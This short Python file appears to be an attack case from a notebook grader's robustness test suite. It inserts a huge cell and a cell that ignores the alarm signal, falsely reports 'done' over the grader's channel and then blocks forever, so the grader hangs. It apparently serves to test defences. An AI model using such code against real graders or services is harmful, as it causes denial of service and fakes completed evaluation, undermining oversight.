"""Stops reading, so that whoever sends it the next, large cell gets stuck."""

from grader.attacks import insert, take_the_wire

STOCK = "nothing"


def cell():
    import os
    import signal

    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    wire.send({"done": []})
    while True:
        os.read(0, 1)


def attack(nb, folder):
    insert(nb, f"long = {'A' * 3_000_000!r}")
    insert(nb, take_the_wire, cell)
